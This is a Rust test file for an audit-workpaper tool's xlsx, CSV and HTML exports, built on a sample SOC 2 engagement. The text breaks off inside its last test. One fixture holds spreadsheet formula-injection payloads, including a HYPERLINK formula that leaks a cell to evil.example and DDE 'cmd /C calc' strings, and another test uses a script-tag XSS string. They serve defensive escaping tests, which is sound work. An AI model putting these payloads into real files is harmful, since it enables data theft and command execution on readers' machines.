//! The workpaper export: xlsx, CSV folder and HTML page from a hand-built workpaper (the Acme
//! engagement's change-management control, tested with two exceptions, and an access control
//! with no sample yet); content, escaping, determinism, round trips and refused destinations.

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use chrono::NaiveDate;
use common::Sandbox;
use sha2::{Digest, Sha256};
use tickmark::Error;
use tickmark::engagement::design::{DesignConclusion, ProcedureNature, ProcedureStep, Walkthrough};
use tickmark::engagement::evaluation::{Approach, Proposal, ProposalKind};
use tickmark::engagement::fieldwork::{
    Conclusion, ConclusionKind, Evidence, EvidenceKind, ExceptionRecord, Interview, NoteStatus, Outcome, ReviewNote,
    SignOff, SignOffRole, TICKMARK_LEGEND, TestResult,
};
use tickmark::engagement::rollup::{ControlState, Coverage};
use tickmark::engagement::workpaper::{ControlEvaluation, ControlWorkpaper, Workpaper};
use tickmark::engagement::{Attribute, Control, EngagementInfo, Frequency, Nature, Period, ReportType};
use tickmark::export::{Format, export};
use tickmark::import::{SourceInfo, ValidationReport};
use tickmark::sampling::{Distribution, Method, Rate, SPEC_VERSION, evaluate};
use tickmark::store::{Filters, PopulationSummary, Sample, SampleItem, StratumSize};

const EXPORTED_AT: &str = "2026-11-23T10:00:00Z";
const POPULATION_SHA: &str = "9f2c4e7a1b3d5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
const TRAIL_HEAD: &str = "4d1e8c0f2a9b7d6e5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d";
const SAMPLE_SIZE: u64 = 25;
const POPULATION_SIZE: u64 = 412;
/// The items with an exception on attribute A (ordinal 7) and B (ordinal 19), and the item
/// whose attribute C does not apply (ordinal 12).
const EXCEPTION_A: u64 = 7;
const EXCEPTION_B: u64 = 19;
const NOT_APPLICABLE_C: u64 = 12;

fn period() -> Period {
    Period::parse("2026-01-01..2026-12-31").unwrap()
}

fn at(day: u32, hour: u32) -> String {
    format!("2026-11-{day:02}T{hour:02}:00:00Z")
}

fn engagement() -> EngagementInfo {
    EngagementInfo {
        client: "Acme Cloud, Inc.".into(),
        report: ReportType::Soc2Type2,
        period: period(),
        criteria: vec!["CC".into(), "A".into(), "C".into()],
        firm: "Harlow & Reyes LLP".into(),
        preparer: "Dana Whitfield".into(),
        reviewer: "Marcus Oyelaran".into(),
        created_at: "2026-09-01T09:00:00Z".into(),
        created_by: "Dana Whitfield".into(),
    }
}

fn report(name: &str, sha: &str, rows: u64, amount_total: Option<&str>) -> ValidationReport {
    ValidationReport {
        source: SourceInfo {
            name: name.into(),
            bytes: 58_311,
            sha256: sha.into(),
            format: "csv".into(),
            encoding: Some("UTF-8".into()),
            delimiter: Some(",".into()),
            sheet: None,
        },
        columns: vec!["Issue key".into(), "Summary".into(), "Resolved".into(), "Approver".into()],
        key_column: "Issue key".into(),
        date_column: Some("Resolved".into()),
        amount_column: amount_total.map(|_| "Amount".into()),
        rows_read: rows + 1,
        rows_accepted: rows,
        blank_rows_skipped: 1,
        blank_rows_lines: vec![rows + 2],
        blank_keys: 0,
        blank_key_lines: vec![],
        duplicate_key_count: 0,
        duplicate_keys: vec![],
        unparseable_date_count: 0,
        unparseable_dates: vec![],
        date_formats_tried: vec!["%Y-%m-%d".into()],
        date_format_used: Some("%Y-%m-%d".into()),
        outside_period_count: 2,
        outside_period: vec![],
        period_start: period().start,
        period_end: period().end,
        unparseable_amount_count: 0,
        unparseable_amounts: vec![],
        amount_total: amount_total.map(String::from),
        min_date: Some(NaiveDate::from_ymd_opt(2026, 1, 2).unwrap()),
        max_date: Some(NaiveDate::from_ymd_opt(2026, 12, 30).unwrap()),
    }
}

fn population(control: &str, name: &str, rows: u64) -> PopulationSummary {
    PopulationSummary {
        id: 1,
        control: control.into(),
        origin: "imported".into(),
        source_name: name.into(),
        source_sha256: Some(POPULATION_SHA.into()),
        item_count: rows,
        imported_at: at(2, 9),
        imported_by: "Dana Whitfield".into(),
        accepted_at: Some(at(2, 10)),
        accepted_by: Some("Dana Whitfield".into()),
        report: report(name, POPULATION_SHA, rows, None),
        exclusions: vec![],
        frame_size: rows,
    }
}

fn position(ordinal: u64) -> u64 {
    // Spread over the population the way a random draw lands: distinct, unordered positions.
    (ordinal * 163 + 29) % POPULATION_SIZE + 1
}

fn key(ordinal: u64) -> String {
    format!("ACME-{}", 1000 + position(ordinal))
}

fn item(ordinal: u64) -> SampleItem {
    let p = position(ordinal);
    SampleItem {
        ordinal,
        position: p,
        row_position: p,
        source_row: p + 1,
        key: key(ordinal),
        date: Some(period().start + chrono::Days::new(p * 364 / POPULATION_SIZE)),
        stratum: None,
        added_at: at(3, 9),
        fields: vec![key(ordinal), "Rotate TLS certificates".into(), "2026-03-04".into(), "J. Ortiz".into()],
        replaces: None,
        void: None,
    }
}

fn draw(number: u64, seed: &str, replaced: Option<&str>) -> Sample {
    Sample {
        id: number as i64,
        control: "CC8.1-01".into(),
        draw_number: number,
        draws: 2,
        spec: SPEC_VERSION.into(),
        method: Method::Random,
        seed: seed.into(),
        seed_proposed: true,
        population_id: 1,
        population_size: POPULATION_SIZE,
        population_name: "jira-changes-2026.csv".into(),
        population_sha256: Some(POPULATION_SHA.into()),
        filters: Filters { blank_rows_skipped: 1, blank_row_lines: vec![414], exclusions: vec![] },
        strata_by: None,
        strata: vec![],
        initial_size: SAMPLE_SIZE,
        size: SAMPLE_SIZE,
        basis: "Firm frequency table: multiple-daily control, lower risk: 25 items".into(),
        drawn_at: at(3, 9),
        drawn_by: "Dana Whitfield".into(),
        replaced_at: replaced.map(|_| at(3, 9)),
        replaced_by: replaced.map(|_| "Dana Whitfield".into()),
        replaced_reason: replaced.map(String::from),
        confidence: Some("0.95".into()),
        tolerable_rate: Some("0.05".into()),
        approach: statistical_approach(),
        warning: None,
        columns: vec!["Issue key".into(), "Summary".into(), "Created".into(), "Assignee".into()],
        items: if replaced.is_some() { vec![] } else { (1..=SAMPLE_SIZE).map(item).collect() },
    }
}

/// 90% confidence, 10% tolerable, none expected: 22 items (AICPA Table A-1 would print 22).
fn statistical_approach() -> Approach {
    Approach::Statistical {
        distribution: "binomial".into(),
        population_size: None,
        confidence: "0.90".into(),
        tolerable_rate: "0.10".into(),
        expected_rate: "0".into(),
        planned_size: Some(22),
        allowed_deviations: 0,
    }
}

fn result(ordinal: u64, attribute: &str) -> TestResult {
    let (outcome, comment) = match (ordinal, attribute) {
        (EXCEPTION_A, "A") => (Outcome::Exception, "CAB approval dated the day after deployment"),
        (EXCEPTION_B, "B") => (Outcome::Exception, "No QA sign-off attached to the ticket"),
        (NOT_APPLICABLE_C, "C") => (Outcome::NotApplicable, "Change cancelled before deployment"),
        _ => (Outcome::Pass, ""),
    };
    TestResult {
        ordinal,
        attribute: attribute.into(),
        outcome,
        comment: comment.into(),
        tested_by: "Dana Whitfield".into(),
        tested_at: at(10 + (ordinal % 5) as u32, 14),
    }
}

fn change_control() -> ControlWorkpaper {
    let attributes = [
        ("A", "Approved by the change advisory board before deployment"),
        ("B", "Tested in staging with QA sign-off before deployment"),
        ("C", "Deployed by someone other than the developer"),
    ];
    let control = Control {
        id: 1,
        code: "CC8.1-01".into(),
        description: "Changes are approved and tested before deployment".into(),
        criteria: vec!["CC8.1".into()],
        frequency: Frequency::MultipleDaily,
        nature: Nature::ItDependentManual,
        owner: "VP Engineering".into(),
        attributes: attributes.iter().map(|(l, c)| Attribute { label: (*l).into(), condition: (*c).into() }).collect(),
    };
    let results = (1..=SAMPLE_SIZE).flat_map(|o| ["A", "B", "C"].map(|a| result(o, a))).collect();
    let exception = |ordinal: u64, narrative: &str, isolated: Option<bool>| ExceptionRecord {
        ordinal,
        key: key(ordinal),
        narrative: narrative.into(),
        cause: "Release deployed during the CAB freeze".into(),
        isolated,
        management_response: "CAB approval is now a required field in the deployment pipeline.".into(),
        recorded_by: "Dana Whitfield".into(),
        recorded_at: at(14, 11),
    };
    let evaluation = evaluate(
        SAMPLE_SIZE,
        2,
        Rate::confidence("0.90").unwrap(),
        Some(Rate::tolerable("0.10").unwrap()),
        Distribution::Binomial,
    )
    .unwrap();
    ControlWorkpaper {
        control,
        state: ControlState::Exceptions,
        procedures: vec![
            ProcedureStep {
                position: 1,
                nature: ProcedureNature::Inquiry,
                text: "Inquired of the change manager about the CAB approval workflow".into(),
            },
            ProcedureStep {
                position: 2,
                nature: ProcedureNature::Inspection,
                text: "Inspected the change ticket for CAB approval before the deployment date".into(),
            },
        ],
        walkthrough: Some(Walkthrough {
            control: "CC8.1-01".into(),
            narrative: "Traced change CHG-1001 from the ticket to the CAB approval and the deployment.".into(),
            traced: "CHG-1001".into(),
            evidence: vec![1],
            interviews: vec![1],
            design: Some(DesignConclusion::Effective),
            concluded_by: Some("Dana Whitfield".into()),
            concluded_at: Some(at(9, 30)),
            recorded_by: "Dana Whitfield".into(),
            recorded_at: at(9, 30),
        }),
        deficiency: None,
        requests: vec![],
        population: Some(population("CC8.1-01", "jira-changes-2026.csv", POPULATION_SIZE)),
        sample: Some(draw(2, "acme-cc81-2026-b", None)),
        replaced_draws: vec![draw(1, "acme-cc81-2026-a", Some("Client re-exported the population with December tickets"))],
        results,
        exceptions: vec![
            exception(EXCEPTION_A, "Change deployed on 2026-03-14; CAB approval recorded on 2026-03-15.", Some(true)),
            exception(EXCEPTION_B, "No evidence that the change was tested before deployment.", None),
        ],
        evaluation: Some(ControlEvaluation {
            approach: statistical_approach(),
            listed_items: SAMPLE_SIZE,
            voided_items: 0,
            tested_items: SAMPLE_SIZE,
            untested_items: 0,
            all_na_items: vec![],
            deviations: 2,
            recorded_cells: SAMPLE_SIZE * 2,
            expected_cells: SAMPLE_SIZE * 2,
            deviation_rate: Some(2.0 / SAMPLE_SIZE as f64),
            statistical: Some(evaluation),
            strata: vec![],
            proposal: Some(Proposal {
                kind: ProposalKind::NotEffective,
                extend_to: None,
                reason: "2 deviation(s) in 25 items tested: the upper limit exceeds the tolerable rate.".into(),
            }),
        }),
        conclusion: Some(Conclusion {
            proposed: ProposalKind::NotEffective,
            concluded: ConclusionKind::ExceptionsNoted,
            override_reason: Some("Both deviations trace to the March CAB freeze; compensating control CC8.1-02 tested without exception.".into()),
            concluded_by: "Dana Whitfield".into(),
            concluded_at: at(18, 15),
        }),
        evidence: vec![
            Evidence {
                id: 1,
                control: "CC8.1-01".into(),
                ordinal: Some(EXCEPTION_A),
                kind: EvidenceKind::File,
                name: format!("{} CAB approval.png", key(EXCEPTION_A)),
                size: Some(48_213),
                sha256: Some("0b7d3c1f9e2a4b6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e".into()),
                added_by: "Dana Whitfield".into(),
                added_at: at(12, 16),
                request: Some("CC8.1-01-04".into()),
            },
            Evidence {
                id: 2,
                control: "CC8.1-01".into(),
                ordinal: None,
                kind: EvidenceKind::Reference,
                name: "PBC-14 Change management policy v3.2".into(),
                size: None,
                sha256: None,
                added_by: "Dana Whitfield".into(),
                added_at: at(12, 17),
                request: None,
            },
        ],
        signoffs: vec![
            SignOff {
                role: SignOffRole::Preparer,
                signer: "Dana Whitfield".into(),
                signed_at: at(18, 16),
                cleared_at: Some(at(19, 9)),
                cleared_reason: Some("Result of item 19 changed after sign-off".into()),
                key_fingerprint: Some("3f2a91c07be4d015".into()),
            },
            SignOff {
                role: SignOffRole::Preparer,
                signer: "Dana Whitfield".into(),
                signed_at: at(19, 10),
                cleared_at: None,
                cleared_reason: None,
                key_fingerprint: Some("3f2a91c07be4d015".into()),
            },
            SignOff {
                role: SignOffRole::Reviewer,
                signer: "Marcus Oyelaran".into(),
                signed_at: at(21, 11),
                cleared_at: None,
                cleared_reason: None,
                key_fingerprint: Some("3f2a91c07be4d015".into()),
            },
        ],
        review_notes: vec![ReviewNote {
            id: 1,
            control: "CC8.1-01".into(),
            text: format!("Tie the exception on {} to management's response memo.", key(EXCEPTION_A)),
            status: NoteStatus::Open,
            raised_by: "Marcus Oyelaran".into(),
            raised_at: at(21, 10),
            answer: None,
            answered_by: None,
            answered_at: None,
            cleared_by: None,
            cleared_at: None,
        }],
    }
}

fn access_control() -> ControlWorkpaper {
    ControlWorkpaper {
        control: Control {
            id: 2,
            code: "CC6.2-01".into(),
            description: "New user access is approved before it is granted".into(),
            criteria: vec!["CC6.2".into(), "CC6.3".into()],
            frequency: Frequency::EventDriven,
            nature: Nature::Manual,
            owner: "IT Operations Manager".into(),
            attributes: vec![
                Attribute { label: "A".into(), condition: "Request approved by the user's manager".into() },
                Attribute { label: "B".into(), condition: "Access granted matches the access requested".into() },
                Attribute { label: "D".into(), condition: "Granted after the approval".into() },
            ],
        },
        state: ControlState::NotStarted,
        procedures: vec![],
        walkthrough: None,
        deficiency: None,
        requests: vec![],
        population: Some(population("CC6.2-01", "okta-new-users-2026.csv", 187)),
        sample: None,
        replaced_draws: vec![],
        results: vec![],
        exceptions: vec![],
        evaluation: None,
        conclusion: None,
        evidence: vec![],
        signoffs: vec![],
        review_notes: vec![],
    }
}

fn interview() -> Interview {
    Interview {
        id: 1,
        held_on: NaiveDate::from_ymd_opt(2026, 10, 14).unwrap(),
        interviewee: "Priya Raman".into(),
        role: "Director of Platform Engineering".into(),
        attendees: vec!["Dana Whitfield".into(), "Luis Ortega".into()],
        topics: "Change approval workflow; emergency changes".into(),
        notes: "Every production change needs a CAB approval in Jira.\nEmergency changes are approved after the fact within 2 business days."
            .into(),
        controls: vec!["CC8.1-01".into()],
        recorded_by: "Dana Whitfield".into(),
        recorded_at: "2026-10-14T17:30:00Z".into(),
    }
}

fn workpaper() -> Workpaper {
    Workpaper {
        engagement: engagement(),
        tickmark_version: tickmark::VERSION.into(),
        exported_at: EXPORTED_AT.into(),
        exported_by: "Dana Whitfield".into(),
        trail_events: 214,
        trail_head: TRAIL_HEAD.into(),
        signers: vec![],
        controls: vec![change_control(), access_control()],
        interviews: vec![interview()],
        objectives: vec![],
        handoffs: vec![handoff()],
        coverage: Coverage { criteria: vec![], without_control: vec![], not_met: vec![], stray: vec![] },
    }
}

/// CC8.1-01 handed to Sam at event 180 and merged back at event 214 with his 12 events.
fn handoff() -> tickmark::store::Handoff {
    tickmark::store::Handoff {
        branch: "3e00c37f3a134bc5".into(),
        assignee: "Sam Ortiz".into(),
        fingerprint: "f9e47151414a278a".into(),
        controls: vec!["CC8.1-01".into()],
        base_seq: 180,
        out_by: "Dana Whitfield".into(),
        out_at: "2026-11-16T09:00:00Z".into(),
        merged_by: Some("Dana Whitfield".into()),
        merged_at: Some("2026-11-20T17:30:00Z".into()),
        merged_events: Some(12),
        merge_event: Some(214),
        recalled_by: None,
        recalled_at: None,
        recall_reason: None,
    }
}

/// The workpaper with text that a spreadsheet would run, in a key, a comment, a narrative and
/// an interview, and a negative control total.
fn hostile_workpaper() -> (Workpaper, Vec<&'static str>) {
    let hostile = vec![
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut wp = workpaper();
    let c = &mut wp.controls[0];
    c.sample.as_mut().unwrap().items[0].key = hostile[0].into();
    c.exceptions[1].cause = hostile[1].into();
    c.exceptions[0].narrative = hostile[2].into();
    c.exceptions[0].management_response = hostile[3].into();
    c.population.as_mut().unwrap().report.amount_total = Some("-125.00".into());
    wp.interviews[0].notes = hostile[4].into();
    wp.interviews[0].topics = hostile[5].into();
    (wp, hostile)
}

fn export_ok(wp: &Workpaper, format: Format, out: &Path) -> tickmark::export::ExportSummary {
    export(wp, format, out, false).unwrap_or_else(|e| panic!("export as {format} failed: {e}"))
}

fn sheet(path: &Path, name: &str) -> calamine::Range<Data> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    book.worksheet_range(name).unwrap_or_else(|e| panic!("sheet {name}: {e}"))
}

/// A sheet's table as rows of column title → cell, found under its header row.
fn table(range: &calamine::Range<Data>, first_title: &str) -> Vec<BTreeMap<String, Data>> {
    let rows: Vec<&[Data]> = range.rows().collect();
    let header = rows.iter().position(|r| r[0] == Data::String(first_title.into())).expect("header row");
    let titles: Vec<String> = rows[header].iter().map(|d| d.to_string()).collect();
    rows[header + 1..].iter().map(|r| titles.iter().cloned().zip(r.iter().cloned()).collect()).collect()
}

fn csv_rows(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = fs::read(path).unwrap();
    let text = std::str::from_utf8(&bytes).unwrap().strip_prefix('\u{FEFF}').expect("BOM");
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers = r.headers().unwrap().iter().map(String::from).collect();
    (headers, r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect())
}

fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

fn html(wp: &Workpaper) -> String {
    let s = Sandbox::new();
    let out = s.path("workpaper.html");
    export_ok(wp, Format::Html, &out);
    fs::read_to_string(out).unwrap()
}

#[test]
fn the_xlsx_workbook_has_every_sheet_in_order() {
    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    export_ok(&workpaper(), Format::Xlsx, &out);
    let book: Xlsx<_> = open_workbook(&out).unwrap();
    assert_eq!(
        book.sheet_names(),
        [
            "Summary",
            "Controls",
            "Design",
            "Population",
            "Sampling",
            "Sample",
            "Results",
            "Exceptions",
            "Deficiencies",
            "Evaluation",
            "Evidence",
            "Requests",
            "Sign-offs",
            "Interviews",
            "Team",
            "Trail"
        ]
    );
}

#[test]
fn the_xlsx_round_trip_finds_every_sample_item_and_every_result() {
    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    let wp = workpaper();
    export_ok(&wp, Format::Xlsx, &out);
    let sample = table(&sheet(&out, "Sample"), "Control");
    let change = &wp.controls[0];
    let items = &change.sample.as_ref().unwrap().items;
    assert_eq!(sample.len(), items.len(), "only the control with a sample has items");
    for (row, item) in sample.iter().zip(items) {
        assert_eq!(row["Control"], Data::String("CC8.1-01".into()));
        assert_eq!(row["Key"], Data::String(item.key.clone()));
        assert_eq!(row["Ordinal"], Data::Float(item.ordinal as f64));
        assert_eq!(row["Position"], Data::Float(item.position as f64));
        assert_eq!(row["Source row"], Data::Float(item.source_row as f64));
        assert_eq!(row["Date"].as_date(), item.date, "{} is a real date", item.key);
    }

    let results = table(&sheet(&out, "Results"), "Control");
    assert_eq!(results.len(), items.len());
    for r in &change.results {
        let row = &results[(r.ordinal - 1) as usize];
        assert_eq!(row["Key"], Data::String(key(r.ordinal)));
        assert_eq!(
            row[&r.attribute],
            Data::String(r.outcome.tickmark().into()),
            "item {} attribute {}",
            r.ordinal,
            r.attribute
        );
    }
    // The access control's attribute D is a column of its own, empty for the change control.
    assert_eq!(results[0]["D"], Data::Empty);
    let comments = results[(NOT_APPLICABLE_C - 1) as usize]["Comments"].to_string();
    assert_eq!(comments, "C: Change cancelled before deployment");
}

#[test]
fn the_results_sheet_carries_the_tickmark_legend() {
    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    export_ok(&workpaper(), Format::Xlsx, &out);
    let range = sheet(&out, "Results");
    let cells: Vec<String> = range.rows().flat_map(|r| r.iter().map(|d| d.to_string())).collect();
    for (mark, meaning) in TICKMARK_LEGEND {
        let at = cells.iter().position(|c| c == mark).unwrap_or_else(|| panic!("legend mark {mark}"));
        assert_eq!(cells[at + 1], meaning);
    }
}

#[test]
fn xlsx_numbers_dates_and_rates_are_typed_cells_not_text() {
    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    let (wp, _) = hostile_workpaper();
    export_ok(&wp, Format::Xlsx, &out);
    let evaluation = table(&sheet(&out, "Evaluation"), "Control");
    let row = &evaluation[0];
    assert_eq!(row["Sample size (n)"], Data::Float(25.0));
    assert_eq!(row["Deviations (k)"], Data::Float(2.0));
    assert_eq!(row["k of n"], Data::String("2 of 25".into()));
    assert_eq!(row["Deviation rate"], Data::Float(0.08));
    assert_eq!(row["Tolerable rate"], Data::Float(0.1));
    let shown = wp.controls[0].evaluation.as_ref().unwrap().statistical.as_ref().unwrap().upper_deviation_limit_display;
    assert_eq!(row["Upper deviation limit"], Data::Float(f64::from(shown.0) / 1000.0));
    assert_eq!(row["Exceeds tolerable rate"], Data::String("Yes".into()));
    assert!(row["Concluded at (UTC)"].as_datetime().is_some(), "a time is a date cell");

    let population = table(&sheet(&out, "Population"), "Control");
    assert_eq!(population[0]["Control total"], Data::Float(-125.0));
    assert_eq!(population[0]["Earliest date"].as_date(), NaiveDate::from_ymd_opt(2026, 1, 2));
    assert_eq!(population[0]["SHA-256"], Data::String(POPULATION_SHA.into()));
}

#[test]
fn xlsx_keeps_formula_looking_text_as_strings_and_has_no_formula() {
    let s = Sandbox::new();
    let out = s.path("acme.xlsx");
    let (wp, hostile) = hostile_workpaper();
    export_ok(&wp, Format::Xlsx, &out);
    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    let mut found = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "sheet {name} has a formula");
        let range = book.worksheet_range(&name).unwrap();
        for (_, _, cell) in range.used_cells() {
            if let Data::String(text) = cell
                && hostile.contains(&text.as_str())
            {
                found.push(text.clone());
            }
        }
    }
    for text in &hostile {
        assert!(found.iter().any(|f| f == text), "{text:?} is kept verbatim as a string cell");
    }
}

const CSV_FILES: [&str; 18] = [
    "controls.csv",
    "deficiencies.csv",
    "design.csv",
    "engagement.csv",
    "evaluation.csv",
    "evidence.csv",
    "exceptions.csv",
    "interviews.csv",
    "legend.csv",
    "population.csv",
    "requests.csv",
    "results.csv",
    "sample.csv",
    "sampling.csv",
    "signoffs.csv",
    "summary.csv",
    "team.csv",
    "trail.csv",
];

#[test]
fn the_csv_folder_has_stable_files_with_a_bom_and_crlf_line_ends() {
    let s = Sandbox::new();
    let out = s.path("acme-csv");
    let summary = export_ok(&workpaper(), Format::Csv, &out);
    assert_eq!(listing(&out), CSV_FILES);
    for name in CSV_FILES {
        let bytes = fs::read(out.join(name)).unwrap();
        assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "{name} starts with a BOM");
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.ends_with("\r\n"), "{name} ends its last line with CRLF");
        // Outside quoted fields every line break is CRLF.
        let bare_lf = text.match_indices('\n').filter(|(i, _)| !text[..*i].ends_with('\r')).count();
        let quoted_lf: usize = text.split('"').skip(1).step_by(2).map(|q| q.matches('\n').count()).sum();
        assert_eq!(bare_lf, quoted_lf, "{name}: a bare LF outside a quoted field");
    }
    let mut named: Vec<&str> = summary.files.iter().map(|f| f.name.as_str()).collect();
    named.sort();
    assert_eq!(named, CSV_FILES);
}

#[test]
fn the_csv_columns_are_the_contract() {
    let s = Sandbox::new();
    let out = s.path("acme-csv");
    export_ok(&workpaper(), Format::Csv, &out);
    let headers = |name: &str| csv_rows(&out.join(name)).0.join("|");
    assert_eq!(headers("engagement.csv"), "Field|Value");
    assert_eq!(
        headers("summary.csv"),
        "Control|Description|Status|Population items|Sample size|Tested items|Deviations|Conclusion|Prepared by|Reviewed by|Open review notes"
    );
    assert_eq!(
        headers("controls.csv"),
        "Control|Description|Criteria|Frequency|Nature|Owner|Attributes|Test procedure"
    );
    let (_, controls) = csv_rows(&out.join("controls.csv"));
    assert_eq!(
        controls[0][7],
        "1. Inquiry: Inquired of the change manager about the CAB approval workflow\n2. Inspection: Inspected the change ticket for CAB approval before the deployment date"
    );
    assert_eq!(
        headers("design.csv"),
        "Control|Item traced|Walkthrough narrative|Evidence|Interviews|Design conclusion|Concluded by|Concluded at (UTC)|Recorded by"
    );
    let (_, design) = csv_rows(&out.join("design.csv"));
    assert_eq!(design.len(), 1, "only CC8.1-01 has a walkthrough");
    assert_eq!(
        design[0][..6],
        [
            "CC8.1-01",
            "CHG-1001",
            "Traced change CHG-1001 from the ticket to the CAB approval and the deployment.",
            "1",
            "1",
            "Suitably designed"
        ]
    );
    assert_eq!(
        headers("deficiencies.csv"),
        "Control|Deviation|Items sampled|Cause|Isolated|Criteria affected|Compensating controls|Management response|Evaluated by|Evaluated at (UTC)"
    );
    assert_eq!(
        headers("sample.csv"),
        "Control|Ordinal|Position|Source row|Key|Date|Stratum|Drawn in|Void|Void reason|Voided by|Added at (UTC)|Field: Issue key|Field: Summary|Field: Created|Field: Assignee"
    );
    assert_eq!(headers("results.csv"), "Control|Ordinal|Key|A|B|C|D|Comments|Tested by|Last tested at (UTC)");
    assert_eq!(headers("legend.csv"), "Tickmark|Meaning");
    assert_eq!(
        headers("exceptions.csv"),
        "Control|Ordinal|Key|Attributes with exception|Narrative|Cause|Isolated|Management response|Recorded by|Recorded at (UTC)"
    );
    assert_eq!(
        headers("trail.csv"),
        "Audit-trail events|Audit-trail head (SHA-256)|Tickmark version|Exported at (UTC)|Exported by"
    );
    let (_, trail) = csv_rows(&out.join("trail.csv"));
    assert_eq!(trail, [["214", TRAIL_HEAD, tickmark::VERSION, EXPORTED_AT, "Dana Whitfield"]]);
    assert_eq!(
        headers("team.csv"),
        "Working copy|Assignee|Signing key|Controls|Handed out by|Handed out at (UTC)|Hand-off event|Status|Merged or recalled by|Merged or recalled at (UTC)|Merge event (events merged)"
    );
    let (_, team) = csv_rows(&out.join("team.csv"));
    assert_eq!(
        team,
        [[
            "3e00c37f3a134bc5",
            "Sam Ortiz",
            "f9e4 7151 414a 278a",
            "CC8.1-01",
            "Dana Whitfield",
            "2026-11-16T09:00:00Z",
            "180",
            "merged",
            "Dana Whitfield",
            "2026-11-20T17:30:00Z",
            "214 (12)"
        ]]
    );
}

#[test]
fn csv_escapes_formula_looking_text_and_the_escaping_survives_the_csv_reader() {
    let s = Sandbox::new();
    let out = s.path("acme-csv");
    let (wp, hostile) = hostile_workpaper();
    export_ok(&wp, Format::Csv, &out);
    let mut values = Vec::new();
    for name in CSV_FILES {
        values.extend(csv_rows(&out.join(name)).1.into_iter().flatten());
    }
    for text in &hostile {
        assert!(!values.iter().any(|v| v == text), "{text:?} reached a CSV cell unescaped");
        assert!(values.contains(&format!("'{text}")), "{text:?} is in a cell, prefixed with a quote");
    }
    assert!(values.iter().all(|v| !v.starts_with(['=', '+', '@', '\t', '\r'])), "no cell starts a formula");

    // Numbers stay numbers: the negative control total, the sample size, the positions.
    let (headers, population) = csv_rows(&out.join("population.csv"));
    let total = headers.iter().position(|h| h == "Control total").unwrap();
    assert_eq!(population[0][total], "-125.00");
    let (_, summary) = csv_rows(&out.join("summary.csv"));
    assert_eq!(summary[0][4], "25");
    let (_, sample) = csv_rows(&out.join("sample.csv"));
    assert_eq!(sample[1][2], position(2).to_string());
}

#[test]
fn the_html_page_is_self_contained_printable_and_escaped() {
    let (wp, _) = hostile_workpaper();
    let mut wp = wp;
    wp.controls[0].control.description = "Changes <script>alert('x')</script> are approved & tested".into();
    let page = html(&wp);
    assert!(page.starts_with("<!DOCTYPE html>"));
    for forbidden in ["<script", "<link", "<img", "<iframe", "src=", "href=", "@import", "url("] {
        assert!(!page.contains(forbidden), "the page contains {forbidden:?}");
    }
    assert!(page.contains("Changes &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; are approved &amp; tested"));
    assert!(page.contains("=HYPERLINK(&quot;http:"), "a formula is shown as text, escaped");
    assert!(page.contains("@media print"));
    assert!(page.contains("thead { display: table-header-group; }"), "table headers repeat on each printed page");
    assert_eq!(page.matches("<section class=\"control\"").count(), 2, "a section, so a page break, per control");
}

#[test]
fn the_html_page_shows_everything_the_workpaper_holds() {
    let wp = workpaper();
    let page = html(&wp);
    let evaluation = wp.controls[0].evaluation.as_ref().unwrap().statistical.as_ref().unwrap();
    let udl = evaluation.upper_deviation_limit_display.to_string();
    let mut expected: Vec<String> = [
        // Engagement header.
        "Acme Cloud, Inc.",
        "SOC 2 Type 2",
        "2026-01-01",
        "2026-12-31",
        "CC, A, C",
        "Harlow &amp; Reyes LLP",
        "Marcus Oyelaran",
        // Control.
        "CC8.1-01: Changes are approved and tested before deployment",
        "CC8.1",
        "multiple-daily",
        "it-dependent-manual",
        "VP Engineering",
        "A: Approved by the change advisory board before deployment",
        // Population.
        "jira-changes-2026.csv",
        POPULATION_SHA,
        "<th>Rows read</th><td class=\"number\">413</td>",
        "<th>Dates outside the period</th><td class=\"number\">2</td>",
        "<th>Accepted by</th><td>Dana Whitfield</td>",
        // Sampling, the replaced draw included.
        SPEC_VERSION,
        "acme-cc81-2026-b",
        "acme-cc81-2026-a",
        "Client re-exported the population with December tickets",
        "<th>Draws for the control</th><td class=\"number\">2</td>",
        "<th>Population size (N)</th><td class=\"number\">412</td>",
        "Firm frequency table: multiple-daily control, lower risk: 25 items",
        // Results and legend.
        "Attribute tested without exception",
        "C: Change cancelled before deployment",
        // Exceptions and evaluation.
        "Change deployed on 2026-03-14; CAB approval recorded on 2026-03-15.",
        "Not assessed",
        "2 of 25",
        "8.0%",
        "10.0%",
        "90.0%",
        "Control not operating effectively",
        "Exceptions noted",
        "compensating control CC8.1-02",
        // Evidence, interview, sign-offs and notes.
        "ACME-1347 CAB approval.png",
        "0b7d3c1f9e2a4b6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e",
        "PBC-14 Change management policy v3.2",
        "Priya Raman",
        "Emergency changes are approved after the fact within 2 business days.",
        "Result of item 19 changed after sign-off",
        "Reviewer sign-off",
        "<td>cleared</td>",
        "Tie the exception on ACME-1347 to management&#39;s response memo.",
        "<td>open</td>",
